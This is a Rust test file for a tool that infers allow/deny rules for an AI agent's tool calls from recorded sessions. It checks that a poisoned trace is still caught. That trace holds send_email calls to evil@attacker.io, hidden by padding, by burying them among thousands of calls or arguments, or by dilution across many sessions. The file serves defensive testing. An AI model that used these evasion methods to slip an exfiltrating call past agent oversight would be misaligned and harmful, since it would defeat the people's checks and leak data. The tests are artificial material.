//! What an attacker could do so that `infer` does not compare his session with the others.

use super::infer::{decide, infer, lines, read};
use super::support::Place;

fn mail(to: &str, body: &str) -> String {
    format!(r#"{{"server":"mail","tool":"send_email","arguments":{{"body":"{body}","to":"{to}"}}}}"#)
}

fn to(address: &str) -> String {
    mail(address, "all is well")
}

/// Sessions that write to the same two people.
fn honest(place: &Place, sessions: usize) {
    for session in 0..sessions {
        let calls = [to("ann@acme.org"), mail("bob@acme.org", &format!("note {session}"))];
        place.write(&format!("traces/s{session:03}.jsonl"), &calls.join("\n"));
    }
}

/// Honest sessions, and one with these calls among its own. What is said of it.
fn poisoned(place: &Place, sessions: usize, calls: &[String]) -> String {
    honest(place, sessions);
    let own = [to("ann@acme.org"), to("bob@acme.org")];
    place.write("traces/poisoned.jsonl", &[&own, calls].concat().join("\n"));
    infer(place, &["--force"])
}

#[test]
fn a_call_is_compared_with_the_others_however_long_it_is_made() {
    let place = Place::new();
    for length in [1_990, 2_100, 60_000] {
        let evil = mail("evil@attacker.io", &"x ".repeat(length / 2));
        let said = poisoned(&place, 20, &[evil]);
        assert!(said.contains("20 of 21 sessions") && said.contains("poisoned.jsonl is unlike"), "{length}: {said}");
        assert_eq!([decide(&place, &to("evil@attacker.io")), decide(&place, &to("ann@acme.org"))], ["deny", "allow"]);
    }
    let honest = mail("bob@acme.org", &"x ".repeat(1_050));
    let said = poisoned(&place, 20, std::slice::from_ref(&honest));
    assert!(said.contains("21 of 21 sessions"), "{said}");
    assert_eq!(decide(&place, &honest), "allow");
}

#[test]
fn a_call_is_compared_with_the_others_among_however_many_or_with_however_many_arguments() {
    let place = Place::new();
    let many: Vec<String> = (0..200).map(|at| mail("ann@acme.org", &format!("again {at}"))).collect();
    let hidden = |evil: &str| [many.as_slice(), &[evil.to_owned()]].concat();
    for position in 0..4 {
        let evil = format!("evil{position}@attacker.io");
        let said = poisoned(&place, 20, &hidden(&to(&evil)));
        assert!(said.contains("poisoned.jsonl is unlike the others: it alone needs /to"), "{said}");
        assert_eq!([decide(&place, &to(&evil)), decide(&place, &to("ann@acme.org"))], ["deny", "allow"]);
    }
    let padding: Vec<String> = (0..10_000).map(|at| format!(r#""x{at}":1"#)).collect();
    let wide = to("evil@attacker.io").replace(r#""body""#, &format!("{},\"body\"", padding.join(",")));
    let said = poisoned(&place, 20, &[wide]);
    assert!(said.contains("poisoned.jsonl is unlike the others"), "{said}");
    assert_eq!([decide(&place, &to("evil@attacker.io")), decide(&place, &to("ann@acme.org"))], ["deny", "allow"]);
    let said = poisoned(&place, 20, &many);
    assert!(said.contains("21 of 21 sessions") && !said.contains("unlike"), "{said}");
}

#[test]
fn a_call_is_compared_with_the_others_in_a_recording_of_any_length() {
    let place = Place::new();
    for sessions in [40, 60, 200] {
        let said = poisoned(&place, sessions, &[to("evil@attacker.io")]);
        assert!(said.contains(&format!("{sessions} of {} sessions", sessions + 1)), "{said}");
        assert_eq!([decide(&place, &to("evil@attacker.io")), decide(&place, &to("ann@acme.org"))], ["deny", "allow"]);
    }
    let place = Place::new();
    let reads: Vec<String> = (0..5_000).map(|at| read(&format!("src/{}/{at}.rs", at % 7))).collect();
    poisoned(&place, 40, &[reads, vec![to("evil@attacker.io")]].concat());
    assert_eq!([decide(&place, &to("evil@attacker.io")), decide(&place, &to("ann@acme.org"))], ["deny", "allow"]);
    let some: Vec<String> = (0..5).map(|at| to(&format!("new{at}@acme.org"))).collect();
    for (at, new) in some.iter().enumerate() {
        place.write(&format!("traces/new{at}.jsonl"), &lines(&[new, &to("ann@acme.org")]));
    }
    infer(&place, &["--force"]);
    assert_eq!(decide(&place, &some[0]), "allow", "six of forty-six bring something new: that is no surprise");
}
